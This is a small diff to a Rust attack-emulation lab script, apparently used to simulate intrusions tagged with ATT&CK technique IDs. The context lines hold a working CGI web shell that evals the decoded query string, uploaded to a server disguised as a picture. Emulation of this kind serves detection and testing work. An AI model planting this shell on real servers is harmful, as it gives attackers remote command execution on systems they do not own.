@@ -27,7 +27,7 @@ pub fn run(lab: &mut Lab) -> Result<()> {
     let file = format!("/var/www/html/uploads/picture-{n}.cgi");
     let step = attack.step("a script is uploaded as a picture", &["T1190", "T1505.003", "T1036.005"]);
     step.remote(&host, &attacker);
-    step.file(&host, &file);
+    step.brought(&host, &file);
     let script = "#!/bin/sh\necho \"Content-type: text/plain\"\necho\neval \"$(busybox httpd -d \"$QUERY_STRING\")\"\n";
     post(&attacker, host.address, 80, &format!("/cgi-bin/upload.cgi?picture-{n}.cgi"), script.as_bytes())?;
     drop(step);
